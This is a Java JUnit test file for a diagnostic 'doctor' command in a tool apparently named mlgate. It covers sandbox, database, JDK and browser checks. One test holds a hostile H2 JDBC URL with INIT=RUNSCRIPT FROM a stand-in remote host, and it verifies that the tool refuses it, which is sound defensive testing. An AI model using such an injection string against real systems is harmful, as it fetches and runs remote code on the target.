package org.mlgate.doctor;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.net.InetAddress;
import java.net.ServerSocket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.mlgate.core.UsageException;
import org.mlgate.train.sandbox.Sandbox;

class DoctorTest {
    @TempDir
    Path tmp;

    Map<String, String> env(String... kv) {
        Map<String, String> m = new HashMap<>();
        m.put("MLGATE_HOME", tmp.resolve("home").toString());
        m.put("PATH", tmp.resolve("bin").toString());
        for (int i = 0; i < kv.length; i += 2) {
            m.put(kv[i], kv[i + 1]);
        }
        return m;
    }

    static Check named(DoctorReport r, String name) {
        return r.checks().stream().filter(c -> c.name().equals(name)).findFirst().orElseThrow();
    }

    @Test
    void checksComeInAFixedOrder() {
        DoctorReport r = Doctor.run(new Doctor.Settings(env(), null), () -> false);
        assertThat(r.checks()).extracting(Check::name).containsExactly("jdk", "training_sandbox", "lineage_store",
                "postgresql", "redis", "chromium");
        assertThat(r.format()).isEqualTo("mlgate-doctor/v1");
    }

    @Test
    void jdkBelow25IsAProblemWithTheFix() {
        assertThat(Doctor.jdk(21, "/opt/jdk21").fails()).isTrue();
        assertThat(Doctor.jdk(21, "/opt/jdk21").fix()).contains("JDK 25");
        assertThat(Doctor.jdk(25, "/opt/jdk25").status()).isEqualTo(Check.Status.OK);
        assertThat(Doctor.jdk(26, "/opt/jdk26").detail()).contains("tested on 25");
    }

    @Test
    void missingBubblewrapFailsTheDoctorAndNamesTheFix() {
        DoctorReport r = Doctor.run(new Doctor.Settings(env(), null), () -> false);
        Check sandbox = named(r, "training_sandbox");
        assertThat(sandbox.status()).isEqualTo(Check.Status.PROBLEM);
        assertThat(sandbox.detail()).contains("/usr/bin/bwrap is missing");
        assertThat(sandbox.fix()).contains("apt-get install bubblewrap");
        assertThat(r.ok()).isFalse();
    }

    @Test
    void realSandboxIsProvenWhereBubblewrapWorks() {
        Assumptions.assumeTrue(Sandbox.bubblewrapInstalled(), "bubblewrap is not installed here: skipped");
        DoctorReport r = Doctor.run(new Doctor.Settings(env(), null));
        Check sandbox = named(r, "training_sandbox");
        // where user namespaces are off this is a PROBLEM, and the doctor must say so rather than pass
        assertThat(sandbox.status() == Check.Status.OK ? sandbox.detail() : sandbox.fix())
                .containsAnyOf("bubblewrap isolates", "user namespaces");
        assertThat(r.ok()).isEqualTo(sandbox.status() == Check.Status.OK);
    }

    @Test
    void absentDefaultStoreIsCreatableAndNotCreatedByTheDoctor() {
        DoctorReport r = Doctor.run(new Doctor.Settings(env(), null), () -> false);
        Check store = named(r, "lineage_store");
        assertThat(store.status()).isEqualTo(Check.Status.OK);
        assertThat(store.detail()).contains("created on first use");
        assertThat(tmp.resolve("home")).doesNotExist();
        assertThat(named(r, "postgresql").status()).isEqualTo(Check.Status.NOT_CONFIGURED);
        assertThat(named(r, "postgresql").fails()).isFalse();
        assertThat(named(r, "redis").status()).isEqualTo(Check.Status.NOT_CONFIGURED);
    }

    @Test
    void existingStoreIsOpened() throws Exception {
        Path db = tmp.resolve("lin");
        try (var s = org.mlgate.lineage.store.LineageStore.open(org.mlgate.lineage.store.StoreConfig.url(db.toString()))) {
            assertThat(s).isNotNull();
        }
        DoctorReport r = Doctor.run(new Doctor.Settings(env(), db.toString()), () -> false);
        assertThat(named(r, "lineage_store").detail()).contains("(--db)").contains("opened and migrated");
        assertThat(named(r, "lineage_store").status()).isEqualTo(Check.Status.OK);
    }

    @Test
    void unwritableHomeIsAProblem() throws Exception {
        Path file = Files.writeString(tmp.resolve("plain-file"), "x");
        DoctorReport r = Doctor.run(new Doctor.Settings(env("MLGATE_HOME", file.resolve("sub").toString()), null),
                () -> false);
        assertThat(named(r, "lineage_store").status()).isEqualTo(Check.Status.PROBLEM);
        assertThat(named(r, "lineage_store").fix()).contains("MLGATE_HOME");
        Path ro = Files.createDirectory(tmp.resolve("ro"), PosixFilePermissions.asFileAttribute(
                PosixFilePermissions.fromString("r-xr-xr-x")));
        Assumptions.assumeFalse(Files.isWritable(ro), "running as a user who may write anywhere");
        assertThat(named(Doctor.run(new Doctor.Settings(env("MLGATE_HOME", ro.toString()), null), () -> false),
                "lineage_store").status()).isEqualTo(Check.Status.PROBLEM);
    }

    @Test
    void refusedEnvironmentUrlIsAProblemAndARefusedDbFlagIsAUsageError() {
        String evil = "jdbc:h2:file:/tmp/x;INIT=RUNSCRIPT FROM 'http://example.invalid/x.sql'";
        DoctorReport r = Doctor.run(new Doctor.Settings(env("MLGATE_LINEAGE_DB", evil), null), () -> false);
        assertThat(named(r, "lineage_store").status()).isEqualTo(Check.Status.PROBLEM);
        assertThat(named(r, "lineage_store").detail()).contains("$MLGATE_LINEAGE_DB is refused").contains("INIT");
        assertThatThrownBy(() -> Doctor.run(new Doctor.Settings(env(), evil), () -> false))
                .isInstanceOf(UsageException.class);
    }

    @Test
    void unreachablePostgresIsAProblemWithoutLeakingThePassword() throws Exception {
        int port;
        try (ServerSocket s = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            port = s.getLocalPort(); // closed again: nothing listens there
        }
        String url = "jdbc:postgresql://127.0.0.1:" + port + "/nodb?user=u&password=hunter2&connectTimeout=2";
        DoctorReport r = Doctor.run(new Doctor.Settings(env("MLGATE_LINEAGE_DB", url), null), () -> false);
        Check pg = named(r, "postgresql");
        assertThat(pg.status()).isEqualTo(Check.Status.PROBLEM);
        assertThat(pg.detail()).contains("127.0.0.1:" + port + "/nodb");
        assertThat(pg.fix()).contains("pg_isready");
        assertThat(named(r, "lineage_store").status()).isEqualTo(Check.Status.PROBLEM);
        assertThat(r.checks().toString()).doesNotContain("hunter2");
        assertThat(r.ok()).isFalse();
    }

    @Test
    void chromiumIsOptional() throws Exception {
        Path bin = Files.createDirectories(tmp.resolve("bin"));
        DoctorReport absent = Doctor.run(new Doctor.Settings(env(), null), () -> false);
        assertThat(named(absent, "chromium").status()).isEqualTo(Check.Status.ABSENT);
        assertThat(named(absent, "chromium").fails()).isFalse();
        Path chromium = Files.writeString(bin.resolve("chromium"), "#!/bin/sh\n");
        Files.setPosixFilePermissions(chromium, PosixFilePermissions.fromString("rwxr-xr-x"));
        assertThat(Doctor.findOnPath(bin.toString(), List.of("chromium"))).isEqualTo(chromium);
        assertThat(Doctor.findOnPath(":" + tmp.resolve("none"), List.of("chromium"))).isNull();
        assertThat(named(Doctor.run(new Doctor.Settings(env(), null), () -> false), "chromium").status())
                .isEqualTo(Check.Status.OK);
    }
}
